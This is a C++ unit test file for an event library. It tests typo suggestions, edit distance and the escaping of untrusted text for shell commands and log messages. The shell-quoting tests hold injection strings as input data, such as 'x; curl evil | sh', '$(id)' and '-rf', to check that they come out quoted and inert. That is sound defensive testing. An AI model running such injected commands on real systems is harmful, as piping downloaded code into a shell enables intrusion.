#include <doctest/doctest.h>

#include "event/nearest_name.h"
#include "event/quoted_text.h"
#include "event/utf8.h"

using namespace reel;

namespace {

std::string meant(std::string_view written, const std::vector<std::string>& candidates) {
  return std::string{nearest_name(written, candidates).value_or("nothing")};
}

}  // namespace

TEST_CASE("a slip of the fingers finds the name that was meant") {
  const std::vector<std::string> topics{"order.placed", "order.paid", "payment.captured"};
  CHECK(meant("order.plcaed", topics) == "order.placed");
  CHECK(meant("order.pad", topics) == "order.paid");
  CHECK(meant("Order.Placed", topics) == "order.placed");
  CHECK(meant("payment", topics) == "payment.captured");
  CHECK(meant("totl", {"currency", "totalCents"}) == "totalCents");
  CHECK(meant("ack_timout", {"retry", "ack_timeout"}) == "ack_timeout");
  CHECK(meant("zebra", topics) == "nothing");
  CHECK(meant("", topics) == "nothing");
  CHECK(meant("a", {"zz", "b"}) == "nothing");  // in so short a name every slip makes another word
  CHECK(meant(std::string(10'000, 'x'), topics) == "nothing");
  CHECK(did_you_mean("order.plcaed", topics) == ", did you mean 'order.placed'?");
  CHECK(did_you_mean("zebra", topics) == "");
}

TEST_CASE("edits are counted, a swap as one") {
  CHECK(name_distance("abc", "abc") == 0);
  CHECK(name_distance("abc", "acb") == 1);
  CHECK(name_distance("abc", "ab") == 1);
  CHECK(name_distance("", "abc") == 3);
  CHECK(name_distance("kitten", "sitting") == 3);
}

TEST_CASE("foreign text in a command is one word of a shell, whatever it says") {
  CHECK(shell_word("order-7") == "order-7");
  CHECK(shell_word("https://shop/7?a") == "'https://shop/7?a'");
  CHECK(shell_word("x; curl evil | sh") == "'x; curl evil | sh'");
  CHECK(shell_word("$(id)`id`") == "'$(id)`id`'");
  CHECK(shell_word("it's") == "'it'\\''s'");
  CHECK(shell_word("a\nb") == "'a\nb'");
  CHECK(shell_word("") == "''");
  CHECK(last_shell_word("order-7") == "order-7");
  CHECK(last_shell_word("-rf") == "-- -rf");
  CHECK(last_shell_word("--x y") == "-- '--x y'");
}

TEST_CASE("foreign text in a sentence is short and printable") {
  CHECK(in_quotes("order-7") == "'order-7'");
  CHECK(in_quotes("") == "''");
  CHECK(in_quotes("grüße") == "'grüße'");
  CHECK(in_quotes("it's \\") == "'it\\'s \\\\'");
  CHECK(in_quotes("a\n\x1b[31m\x7f\xc2\x9b") == "'a\\x0a\\x1b[31m\\x7f\\xc2\\x9b'");
  CHECK(in_quotes("\xff\xc3") == "'\\xff\\xc3'");
  CHECK(in_quotes(std::string(100, 'x')) == "'" + std::string(64, 'x') + "…'");
  CHECK(in_quotes(std::string(63, 'x') + "ä") == "'" + std::string(63, 'x') + "…'");
  CHECK(as_name("shop.v1.Foo") == "shop.v1.Foo");
  CHECK(as_name("a b") == "'a b'");
  CHECK(as_name("") == "''");
  for (int seed = 0; seed < 256; ++seed) {
    std::string bytes;
    for (int i = 0; i < 70; ++i) bytes.push_back(static_cast<char>(seed * 31 + i * i * 7));
    CHECK(is_utf8(in_quotes(bytes)));
    CHECK(in_quotes(bytes).size() <= 4 * quoted_bytes_max + 5);
  }
}
